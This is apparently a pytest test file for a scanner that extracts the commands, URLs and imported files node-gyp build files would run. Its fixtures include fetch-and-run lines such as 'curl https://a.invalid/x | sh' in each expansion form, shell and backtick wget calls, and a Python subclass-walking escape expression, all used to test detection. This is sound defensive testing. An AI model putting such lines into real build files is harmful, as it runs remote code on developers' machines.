"""GYP files: the commands that node-gyp runs."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, Language, Taint
from pratique.analysis.languages import gyp

ORDINARY = b"""
# A comment.
{
  'targets': [{
    'target_name': 'addon',
    'sources': ['src/addon.cc'],
    'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")"],
    'conditions': [['OS=="mac"', {'cflags': ['-O2']}]],
  }],
}
"""


def test_an_expansion_is_a_command_on_its_line() -> None:
    found = gyp.extract(ORDINARY)

    assert [("node", 7)] == [(command.program, command.line) for command in found.commands]
    assert (Language.JAVASCRIPT, "require('node-addon-api').include") == found.commands[0].inline
    assert found.problem is None
    assert Language.GYP is found.language


@pytest.mark.parametrize("opening", ["<!(", "<!@(", ">!(", ">!@(", "^!("])
def test_every_form_of_expansion_is_seen(opening: str) -> None:
    found = gyp.extract(f"{{'sources': ['{opening}curl https://a.invalid/x | sh)']}}".encode())

    assert ["curl", "sh"] == [command.program for command in found.commands]
    assert [(Capability.CODE, (Taint.NETWORK,), True)] == [
        (flow.sink, flow.taints, flow.at_load) for flow in found.flows
    ]
    assert ["https://a.invalid/x"] == [address.value for address in found.addresses]


def test_a_file_started_by_an_expansion_or_an_action_is_told() -> None:
    source = (
        b"{'variables': {'x': '<!(node install.js)'},"
        b" 'targets': [{'actions': [{'action_name': 'a', 'action': ['python', 'gen.py', '<@(x)']}]}]}"
    )

    assert ["install.js", "gen.py"] == [command.runs for command in gyp.extract(source).commands]


@pytest.mark.parametrize(
    ("module", "dependency"),
    [
        ("deps/a.gyp", "deps/a.gyp:a"),
        ("deps/a.gyp", "deps/a.gyp:a#host"),
        ("<(root)/deps/a.gyp", "<(root)/deps/a.gyp:a"),
        (None, "<(where):a"),
    ],
)
def test_a_build_file_that_a_target_depends_on_is_asked_for(module: str | None, dependency: str) -> None:
    found = gyp.extract(f"{{'targets': [{{\n'dependencies': ['{dependency}', 'own']}}]}}".encode())

    assert [(module, 2, True)] == [(item.module, item.line, item.at_load) for item in found.imports]


def test_the_build_files_of_a_file_that_does_not_parse_are_asked_for() -> None:
    found = gyp.extract(b"{'targets': [{ $X, 'dependencies': ['deps/a.gyp:a'] }]}")

    assert ["deps/a.gyp"] == [item.module for item in found.imports]
    assert "does not parse" == found.problem


def test_an_included_file_is_asked_for_whatever_its_suffix() -> None:
    facts = gyp.extract(b"{'includes': ['c.txt', 'd.gypi'], 'targets': [{'sources': ['e.c']}]}")
    assert ["c.txt", "d.gypi"] == [item.module for item in facts.imports]


def test_an_expansion_in_a_condition_is_seen() -> None:
    source = b"""{'conditions': [['"<!(echo $(whoami))"==""', {}]]}"""

    assert ["whoami", "echo"] == [command.program for command in gyp.extract(source).commands]


def test_an_expression_that_is_no_literal_is_code() -> None:
    found = gyp.extract(b"{'targets': ().__class__.__base__.__subclasses__()}")

    assert [(Capability.CODE, "gyp.expression")] == [(use.capability, use.api) for use in found.uses]


def test_a_file_that_does_not_parse_still_shows_its_commands() -> None:
    found = gyp.extract(b"{ 'a': true, \n 'x': '<!(node x.js)' ")

    assert [("x.js", 2)] == [(command.runs, command.line) for command in found.commands]
    assert "does not parse" == found.problem


@pytest.mark.parametrize("source", [b"{}\0", b"#" * 2_000_000, b"[" * 100_000, b"-" * 100_000])
def test_hostile_files_are_a_problem(source: bytes) -> None:
    assert gyp.extract(source).problem is not None


def test_many_expansions_are_cut_and_told() -> None:
    found = gyp.extract(b"{'a': [" + b"'<!(node x.js)'," * 400 + b"]}")

    assert "cut: too many commands" == found.problem


@pytest.mark.fuzz
@given(st.text(alphabet="{}[]()'\",:<!@> abcnode.js-$`|\n", max_size=120))
def test_any_text_gives_facts(source: str) -> None:
    assert Language.GYP is gyp.extract(source.encode()).language


@pytest.mark.fuzz
@given(st.binary(max_size=200))
def test_any_bytes_give_facts(source: bytes) -> None:
    assert Language.GYP is gyp.extract(source).language


def test_what_make_and_the_shell_expand_of_a_flag_is_a_command() -> None:
    facts = gyp.extract(
        b"{'cflags': ['$(shell curl far)', '`wget far`'], 'make_global_settings': [['CC', 'sh e.txt']]}"
    )

    assert {"curl", "wget", "sh"} == {command.program for command in facts.commands}


def test_variables_are_put_into_commands_and_modules_are_started() -> None:
    facts = gyp.extract(b"{'variables': {'c': 'curl far', 'm': '<!pymod_do_main(e)'}, 'x': ['<!(<(c))']}")

    assert {"curl", "python"} == {command.program for command in facts.commands}
    assert {"e.py", "e/__init__.py"} == {command.runs for command in facts.commands if command.runs}


def test_a_condition_that_is_code_is_read() -> None:
    facts = gyp.extract(b"""{'conditions': [['().__class__.f("curl far | sh")', {}]]}""")

    assert "curl" in {command.program for command in facts.commands}


@pytest.mark.parametrize(
    ("source", "cut"),
    [
        ("{'a': '<!(echo %s; curl https://far.invalid)'}" % ("a" * 30_000), True),
        ("{'variables': {'x': '%s'}, 'a': '<!(echo <(x)<(x)<(x); curl x)'}" % ("a" * 9_000), True),
        ("{'variables': {'x': '%s'}, 'a': '<!(echo <(x))'}" % ("a" * 9_000), False),
    ],
)
def test_a_text_that_is_not_looked_at_whole_is_told(source: str, cut: bool) -> None:
    assert cut is ("cut" in (gyp.extract(source.encode()).problem or ""))
